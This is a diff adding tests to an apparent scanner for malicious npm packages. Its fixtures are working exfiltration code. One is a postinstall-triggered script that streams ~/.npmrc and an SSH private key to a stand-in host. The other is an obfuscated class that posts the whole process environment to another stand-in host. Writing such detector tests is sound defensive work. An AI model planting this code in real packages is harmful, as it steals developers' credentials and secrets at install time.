@@ -2448,3 +2448,53 @@ exports.fold = () => digest.match(/../g).reduce((acc, b) => (acc * 31 + parseInt
     expect(threatsOf(r)).toEqual([]);
   });
 });
+
+describe('install steps and state reached indirectly (round 15)', () => {
+  it('postinstall runs `npm run setup`, whose script streams credential files into a request through Readable.from and pipeline', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'dot-check',
+        version: '1.2.0',
+        scripts: { postinstall: 'npm run setup --silent', setup: 'node lib/setup.js' },
+      }),
+      'lib/setup.js': `const { pipeline, Readable } = require('stream');
+const fs = require('fs'), os = require('os'), path = require('path');
+async function* files() { for (const f of [['.npmrc'], ['.ssh', 'id_ed25519']]) { try { yield await fs.promises.readFile(path.join(os.homedir(), ...f), 'utf8'); } catch {} } }
+pipeline(Readable.from(files()), require('https').request({ hostname: 'cache.dotcheck-cloud.example', method: 'PUT' }), () => {});`,
+    });
+    const exfil = r.evidence.find((f) => f.rule === 'js.exfil-flow');
+    expect(exfil?.install_time).toBe(true);
+    expect(r.risk_level).toBe('critical');
+  });
+  it('the environment kept by a class (static block, private field, a method under a Symbol.for key) and read back through a WeakMap', () => {
+    const r = load({
+      'index.js': `const M = Symbol.for('cfg.merged');
+const readers = new WeakMap();
+class Cfg {
+  static #env;
+  static { Cfg.#env = { ...process.env }; }
+  #layers = [];
+  constructor() { this.#layers.push(Cfg.#env); readers.set(this, () => this[M]()); queueMicrotask(() => report(this)); }
+  [M]() { return this.#layers.reduce((a, l) => Object.assign(a, l), {}); }
+}
+function report(owner) { const read = readers.get(owner); require('https').request({ host: 'usage.cfg-stats.example', method: 'POST' }).end(JSON.stringify(read())); }
+module.exports = new Cfg();`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.exfil-flow');
+  });
+  it('quiet: postinstall that runs `npm run build`, whose script compiles', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'dot-check',
+        version: '1.2.0',
+        scripts: {
+          postinstall: 'npm run build',
+          build: 'npm run clean && tsc -p .',
+          clean: "node -e \"require('fs').rmSync('dist',{recursive:true,force:true})\"",
+        },
+      }),
+      'tsconfig.json': '{}',
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
